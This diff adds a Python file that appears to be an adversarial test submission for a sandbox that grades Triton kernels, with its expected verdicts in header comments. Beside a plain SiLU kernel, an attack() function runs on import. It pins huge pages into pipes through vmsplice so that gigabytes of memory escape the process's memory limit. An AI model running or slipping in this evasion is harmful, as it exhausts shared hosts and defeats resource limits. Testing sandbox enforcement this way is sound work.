@@ -1,0 +1,93 @@
+# Keeps 1.75 GiB of its own, and 2.75 GiB that it has unmapped: pipes hold a page of each huge one, and so all of it.
+# verdict: runtime_error, memory_limit, time_limit
+# policy: off
+import ctypes
+import errno
+import mmap
+import os
+import time
+
+import triton
+import triton.language as tl
+
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+
+
+def syscall(x86_64, aarch64, *arguments):
+    number = x86_64 if os.uname().machine == "x86_64" else aarch64
+    answer = libc.syscall(number, *(ctypes.c_long(a) if isinstance(a, int) else a for a in arguments))
+    if answer < 0:
+        raise OSError(ctypes.get_errno(), f"system call {number}")
+    return answer
+
+
+REFUSALS = (errno.EPERM, errno.EACCES, errno.ENOSYS, errno.ESRCH, errno.ENOENT, errno.ENOMEM, errno.EMFILE)
+said = []
+
+
+def worked(what, action):
+    """Whether an attempt went through. A refusal is noted; any other failure is a fault of this file."""
+    try:
+        action()
+    except OSError as error:
+        if error.errno not in REFUSALS:
+            raise
+        said.append(f"{what} {errno.errorcode[error.errno]}")
+        return False
+    return True
+
+
+OWN, HUGE, PIECE, TARGET = 1792 << 20, 2 << 20, 128 << 20, 2816 << 20
+MADV_HUGEPAGE, SLOTS = 14, 16
+
+
+class Vector(ctypes.Structure):
+    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))
+
+
+def pin(place, pipe):
+    vector = Vector(place, mmap.PAGESIZE)
+    syscall(278, 75, pipe, ctypes.byref(vector), 1, 0)
+
+
+def fill():
+    libc.mmap.restype = ctypes.c_void_p
+    libc.mmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t) + (ctypes.c_int,) * 3 + (ctypes.c_long,)
+    libc.madvise.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int)
+    libc.munmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t)
+    pinned, pipe = 0, -1
+    for _ in range(TARGET // PIECE):
+        flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS
+        place = libc.mmap(None, PIECE + HUGE, mmap.PROT_READ | mmap.PROT_WRITE, flags, -1, 0)
+        first = -(-place // HUGE) * HUGE
+        libc.madvise(first, PIECE, MADV_HUGEPAGE)
+        ctypes.memset(first, 1, PIECE)
+        for offset in range(0, PIECE, HUGE):
+            if pinned % SLOTS == 0:
+                _, pipe = os.pipe()
+            pin(first + offset, pipe)
+            pinned += 1
+        libc.munmap(place, PIECE + HUGE)
+
+
+def attack():
+    own = b"x" * OWN
+    if not worked("vmsplice", fill):
+        raise RuntimeError(f"refused: {', '.join(said)}")
+    time.sleep(0.5)
+    del own
+
+
+@triton.jit
+def silu_kernel(x, out, n, BLOCK: tl.constexpr):
+    i = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
+    v = tl.load(x + i, mask=i < n)
+    tl.store(out + i, v / (1 + tl.exp(-v)), mask=i < n)
+
+
+attack()
+
+
+def silu(x, out):
+    silu_kernel[(triton.cdiv(x.numel(), 4096),)](x, out, x.numel(), BLOCK=4096)
